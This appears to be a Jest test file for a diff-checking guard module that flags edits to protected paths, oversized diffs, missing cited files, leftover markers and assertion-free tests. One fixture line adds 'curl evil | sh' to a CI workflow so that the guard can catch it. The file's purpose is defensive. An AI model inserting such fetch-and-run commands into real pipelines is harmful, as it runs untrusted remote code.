import { describe, it, expect } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseUnifiedDiff } from '../../core/diff.js';
import {
  GUARD_RETRIES,
  citedPath,
  decideAfterGuards,
  failedGuards,
  formatViolations,
  runGuards,
} from '../../core/guards.js';
import type { GuardInput, Violation } from '../../core/guards.js';
import { findUnfinishedWork } from '../../core/guards/unfinished-work.js';
import { addedFile, changedFile, policy, W } from './guards-fixtures.js';

const input = (overrides: Partial<GuardInput>): GuardInput => ({
  diff: [],
  policy,
  existingFiles: new Set(['src/sum.ts', 'test/sum.test.ts', 'README.md']),
  citedFiles: [],
  ...overrides,
});

const guardsOf = (violations: readonly Violation[]) => violations.map((v) => v.guard);

describe('protected paths', () => {
  it('flags an edit to .github/workflows/x.yml, naming the glob', () => {
    const found = runGuards(
      input({ diff: [changedFile('.github/workflows/x.yml', [[3, '  run: curl evil | sh']])] }),
    );
    expect(found).toEqual([
      {
        guard: 'protected_path',
        file: '.github/workflows/x.yml',
        message: expect.stringContaining(
          'changes the protected file .github/workflows/x.yml (policy protected_paths: ".github/**")',
        ),
      },
    ]);
  });

  it('flags renames away from and onto protected paths, deletions and secrets-like files', () => {
    const renamed = (from: string, to: string) => ({
      ...changedFile(to, []),
      change: 'renamed' as const,
      oldPath: from,
      newPath: to,
      similarity: 100,
    });
    const diff = [
      renamed('.github/CODEOWNERS', 'docs/CODEOWNERS'),
      renamed('notes.txt', 'config/.env.production'),
      changedFile('deploy/.env', [], [[1, 'A=1']], 'deleted'),
      addedFile('certs/server.pem', '-----BEGIN'),
      addedFile('src/ok.ts', 'export const ok = 1;'),
    ];
    const found = runGuards(input({ diff })).filter((v) => v.guard === 'protected_path');
    expect(found.map((v) => v.file)).toEqual([
      '.github/CODEOWNERS',
      'config/.env.production',
      'deploy/.env',
      'certs/server.pem',
    ]);
    expect(found[0]?.message).toContain('renames the protected file .github/CODEOWNERS to docs/CODEOWNERS');
    expect(found[1]?.message).toContain('renames notes.txt onto the protected path config/.env.production');
    expect(found[2]?.message).toContain('deletes the protected file deploy/.env');
  });

  it('uses the policy globs, not a built-in list', () => {
    const diff = [
      changedFile('infra/main.tf', [[1, 'x']]),
      changedFile('.github/workflows/ci.yml', [[1, 'x']]),
    ];
    const custom = { ...policy, protected_paths: ['infra/**'] };
    expect(runGuards(input({ diff, policy: custom })).map((v) => v.file)).toEqual(['infra/main.tf']);
  });

  it('flags a symbolic link into a protected path or out of the repository', () => {
    const link = (path: string, target: string) => ({ ...addedFile(path, target), newMode: '120000' });
    const found = runGuards(
      input({
        diff: [
          link('docs/ci', '../.github/workflows/ci.yml'),
          link('etc', '/etc'),
          link('docs/readme', '../README.md'),
        ],
      }),
    );
    expect(found.map((v) => [v.guard, v.file])).toEqual([
      ['protected_path', 'docs/ci'],
      ['protected_path', 'etc'],
    ]);
    expect(found[1]?.message).toContain('outside the repository');
  });
});

describe('diff size', () => {
  const manyFiles = (n: number) =>
    Array.from({ length: n }, (_, i) => addedFile(`src/f${i}.ts`, `export const v${i} = ${i};`));

  it('accepts a change at the limits and flags one above them', () => {
    const limits = { max_changed_files: 3, max_changed_lines: 4 };
    const small = { ...policy, limits };
    expect(runGuards(input({ diff: manyFiles(3), policy: small }))).toEqual([]);
    const found = runGuards(input({ diff: manyFiles(5), policy: small }));
    expect(found.map((v) => v.message)).toEqual([
      expect.stringContaining('touches 5 files; the limit is 3 (policy limits.max_changed_files)'),
      expect.stringContaining(
        'adds and removes 5 lines (5 added, 0 removed, lock files not counted); the limit is 4 (policy limits.max_changed_lines)',
      ),
    ]);
  });

  it('counts lock files as files but not their lines', () => {
    const small = { ...policy, limits: { max_changed_files: 10, max_changed_lines: 10 } };
    const lock = addedFile(
      'web/package-lock.json',
      Array.from({ length: 5000 }, (_, i) => `"l${i}": 1,`).join('\n'),
    );
    expect(runGuards(input({ diff: [lock, ...manyFiles(2)], policy: small }))).toEqual([]);
    const notLock = addedFile(
      'web/data.json',
      Array.from({ length: 11 }, (_, i) => `"l${i}": 1,`).join('\n'),
    );
    expect(guardsOf(runGuards(input({ diff: [notLock], policy: small })))).toEqual(['diff_too_large']);
  });

  it('uses the default limits of the policy', () => {
    expect(guardsOf(runGuards(input({ diff: manyFiles(policy.limits.max_changed_files + 1) })))).toEqual([
      'diff_too_large',
    ]);
  });
});

describe('cited files', () => {
  it('normalises citations with line references', () => {
    expect(citedPath('./src/sum.ts:12')).toBe('src/sum.ts');
    expect(citedPath('src/sum.ts:12:4')).toBe('src/sum.ts');
    expect(citedPath('`src/sum.ts#L3-L9`')).toBe('src/sum.ts');
    expect(citedPath('src/sum.ts (L3-9)')).toBe('src/sum.ts');
    expect(citedPath('/etc/passwd')).toBeNull();
    expect(citedPath('../outside.ts')).toBeNull();
  });

  it('flags each missing or outside file once, and accepts files and folders that exist', () => {
    const citedFiles = [
      'src/sum.ts:3',
      './test/sum.test.ts',
      'src',
      'src/missing.ts',
      'src/missing.ts:9',
      '../../etc/passwd',
    ];
    const found = runGuards(input({ citedFiles }));
    expect(found.map((v) => [v.guard, v.file])).toEqual([
      ['missing_cited_file', 'src/missing.ts'],
      ['missing_cited_file', '../../etc/passwd'],
    ]);
    expect(found[0]?.message).toContain('cites src/missing.ts, which does not exist after the change');
  });
});

describe('runGuards and the decision after them', () => {
  it('orders findings by guard and includes every guard', () => {
    const diff = [
      addedFile('src/a.ts', `// ${W.todo} later`),
      addedFile('test/a.test.ts', "import { a } from '../src/a';\nit('a', () => { a(); });"),
      changedFile('.github/workflows/ci.yml', [[1, 'x']]),
    ];
    const found = runGuards(
      input({
        diff,
        existingFiles: new Set(['src/a.ts', 'test/a.test.ts', '.github/workflows/ci.yml']),
        citedFiles: ['src/b.ts'],
        policy: { ...policy, limits: { max_changed_files: 2, max_changed_lines: 100 } },
      }),
    );
    expect(failedGuards(found)).toEqual([
      'unfinished_work',
      'assertion_free_test',
      'protected_path',
      'diff_too_large',
      'missing_cited_file',
    ]);
    expect(guardsOf(found)).toEqual([
      'protected_path',
      'diff_too_large',
      'unfinished_work',
      'assertion_free_test',
      'missing_cited_file',
    ]);
  });

  it('judges a modified test file as a whole when its text is given', () => {
    const diff = [
      changedFile('test/sum.test.ts', [
        [9, "it('more', () => {"],
        [10, '  sum(2, 2);'],
        [11, '});'],
      ]),
    ];
    const text = [
      "import { sum } from '../src/sum';",
      ...Array.from({ length: 7 }, () => ''),
      "it('more', () => {",
      '  sum(2, 2);',
      '});',
    ].join('\n');
    expect(runGuards(input({ diff }))).toEqual([]);
    const found = runGuards(input({ diff, contents: new Map([['test/sum.test.ts', text]]) }));
    expect(found.map((v) => [v.guard, v.line])).toEqual([['assertion_free_test', 9]]);
  });

  it('passes the project module names to the test guard', () => {
    const diff = [
      addedFile('test/x.test.ts', "import { sum } from 'calc';\nit('x', () => expect(sum(1, 1)).toBe(2));"),
    ];
    expect(guardsOf(runGuards(input({ diff })))).toEqual(['assertion_free_test']);
    expect(runGuards(input({ diff, projectModules: ['calc'] }))).toEqual([]);
  });

  it('sends findings back once, then fails naming the guards', () => {
    const violations: Violation[] = [
      { guard: 'unfinished_work', file: 'a.ts', line: 1, message: 'a.ts:1: marker' },
      { guard: 'protected_path', file: '.github/x', message: 'protected' },
    ];
    expect(GUARD_RETRIES).toBe(1);
    expect(decideAfterGuards([], 1)).toEqual({ action: 'commit' });
    expect(decideAfterGuards([], 2)).toEqual({ action: 'commit' });
    const retry = decideAfterGuards(violations, 1);
    expect(retry).toEqual({
      action: 'retry',
      guards: ['unfinished_work', 'protected_path'],
      feedback: expect.any(String),
    });
    expect(retry.action === 'retry' && retry.feedback).toContain(
      '- [unfinished_work] a.ts:1: marker\n- [protected_path] protected',
    );
    const fail = decideAfterGuards(violations, 2);
    expect(fail).toEqual({
      action: 'fail',
      guards: ['unfinished_work', 'protected_path'],
      reason: expect.stringMatching(
        /^The guards unfinished_work, protected_path still failed after 1 retry:/,
      ),
    });
    expect(() => decideAfterGuards(violations, 0)).toThrow(RangeError);
  });

  it('bounds the feedback', () => {
    const many: Violation[] = Array.from({ length: 45 }, (_, i) => ({
      guard: 'unfinished_work',
      message: `m${i}`,
    }));
    const text = formatViolations(many);
    expect(text.split('\n')).toHaveLength(31);
    expect(text).toMatch(/- \.\.\. and 15 more findings$/);
  });
});

describe('acceptance of issue 4: the developer is sent back once, then the stage fails naming the guard', () => {
  const existing = new Set(['src/sum.ts', 'src/pipe.ts', 'test/sum.test.ts', '.github/workflows/x.yml']);
  const cases: Array<[string, string, string]> = [
    [
      'a marker on an added line',
      'unfinished_work',
      [
        'diff --git a/src/pipe.ts b/src/pipe.ts',
        '--- a/src/pipe.ts',
        '+++ b/src/pipe.ts',
        '@@ -1,2 +1,3 @@',
        ' export function pipe(stdin) {',
        `+  // ${W.todo}: forward stdin`,
        ' }',
      ].join('\n'),
    ],
    [
      'an assertion-free test',
      'assertion_free_test',
      [
        'diff --git a/test/pipe.test.ts b/test/pipe.test.ts',
        'new file mode 100644',
        '--- /dev/null',
        '+++ b/test/pipe.test.ts',
        '@@ -0,0 +1,4 @@',
        "+import { pipe } from '../src/pipe';",
        "+it('pipes', () => {",
        '+  pipe(process.stdin);',
        '+});',
      ].join('\n'),
    ],
    [
      'an edit to .github/workflows/x.yml',
      'protected_path',
      [
        'diff --git a/.github/workflows/x.yml b/.github/workflows/x.yml',
        '--- a/.github/workflows/x.yml',
        '+++ b/.github/workflows/x.yml',
        '@@ -1 +1 @@',
        '-on: push',
        '+on: [push, pull_request_target]',
      ].join('\n'),
    ],
  ];

  it.each(cases)('%s', (_name, guard, diffText) => {
    const violations = runGuards(input({ diff: parseUnifiedDiff(diffText), existingFiles: existing }));
    expect(guardsOf(violations)).toEqual([guard]);
    expect(decideAfterGuards(violations, 1)).toMatchObject({ action: 'retry', guards: [guard] });
    const second = decideAfterGuards(violations, 2);
    expect(second).toMatchObject({ action: 'fail', guards: [guard] });
    expect(second.action === 'fail' && second.reason).toContain(guard);
  });
});

describe('guards on a real git diff', () => {
  it('reads the staged diff of a temp repository', () => {
    const dir = mkdtempSync(join(tmpdir(), 'guards-git-'));
    try {
      const git = (...args: string[]) =>
        execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
          cwd: dir,
          encoding: 'utf8',
        });
      git('init', '-q', '-b', 'main');
      mkdirSync(join(dir, 'src'));
      writeFileSync(join(dir, 'src/sum.ts'), 'export const sum = (a: number, b: number) => a + b;\n');
      git('add', '-A');
      git('commit', '-q', '-m', 'base');
      writeFileSync(
        join(dir, 'src/sum.ts'),
        `export const sum = (a: number, b: number) => a + b;\n// ${W.fixme} overflow\n`,
      );
      mkdirSync(join(dir, 'test'));
      writeFileSync(
        join(dir, 'test/sum.test.ts'),
        "import { sum } from '../src/sum';\nit('adds', () => { expect(true).toBe(true); });\n",
      );
      mkdirSync(join(dir, '.github/workflows'), { recursive: true });
      writeFileSync(join(dir, '.github/workflows/x.yml'), 'on: push\n');
      symlinkSync('../.github/workflows/x.yml', join(dir, 'src/ci-link'));
      git('add', '-A');
      const diff = parseUnifiedDiff(
        git('diff', '--cached', '--no-color', '--src-prefix=a/', '--dst-prefix=b/', '-M', 'HEAD'),
      );
      const existingFiles = new Set(git('ls-files').split('\n').filter(Boolean));
      const found = runGuards({ diff, policy, existingFiles, citedFiles: ['src/sum.ts:2', 'src/nope.ts'] });
      expect(found.map((v) => `${v.guard} ${v.file}${v.line ? `:${v.line}` : ''}`)).toEqual([
        'protected_path .github/workflows/x.yml',
        'protected_path src/ci-link',
        'unfinished_work src/sum.ts:2',
        'assertion_free_test test/sum.test.ts:2',
        'missing_cited_file src/nope.ts',
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("this repository's own code passes the guard it ships", () => {
  const root = join(dirname(fileURLToPath(import.meta.url)), '../..');
  const ownFiles = (dir: string): string[] =>
    readdirSync(join(root, dir), { withFileTypes: true, recursive: true })
      .filter((entry) => entry.isFile() && entry.name.endsWith('.ts'))
      .map((entry) => relative(root, join(entry.parentPath, entry.name)));
  const files = [
    'core/guards.ts',
    'core/diff.ts',
    'core/branch.ts',
    ...ownFiles('core/guards'),
    ...ownFiles('test/core').filter((f) => /\/(guards|diff|branch)/.test(f)),
    ...ownFiles('action/executor'),
    ...ownFiles('action/git'),
    ...ownFiles('test/action/executor'),
    ...ownFiles('test/action/git'),
  ];

  it('has no unfinished-work finding and no bare marker word', () => {
    const bareMarker = new RegExp(`\\b(${[W.todo, W.fixme, W.xxx, W.hack].join('|')})\\b`);
    for (const path of files) {
      const text = readFileSync(join(root, path), 'utf8');
      expect({ path, findings: findUnfinishedWork(addedFile(path, text), path.startsWith('test/')) }).toEqual(
        { path, findings: [] },
      );
      expect({ path, bare: bareMarker.exec(text)?.[0] ?? null }).toEqual({ path, bare: null });
    }
    expect(files.length).toBeGreaterThan(20);
  });
});
